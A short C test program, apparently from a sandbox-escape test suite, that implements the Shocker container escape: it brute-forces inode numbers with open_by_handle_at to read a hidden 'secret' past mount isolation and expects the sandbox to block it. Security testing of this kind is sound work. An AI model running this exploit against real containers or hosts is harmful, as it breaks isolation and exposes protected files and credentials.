// idea: open files by handle, which no mount hides (Shocker)
// problem: secret
// expect: WA
// naive: -
// control: tests/escape/test_a6_surface.py
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

int main(void) {
    struct file_handle *handle = calloc(1, sizeof *handle + 128);
    int place = open("/", O_RDONLY), mount_id;
    handle->handle_bytes = 128;
    if (name_to_handle_at(0, "", handle, &mount_id, AT_EMPTY_PATH) != 0) { handle->handle_bytes = 8; handle->handle_type = 1; }
    for (unsigned inode = 1; inode < 4000; inode++) {
        ((unsigned *)handle->f_handle)[0] = inode;
        int fd = open_by_handle_at(place, handle, O_RDONLY);
        char text[100] = "";
        if (fd >= 0 && read(fd, text, sizeof text - 1) > 0) printf("token %s\n", text);
    }
    puts("nothing");
}
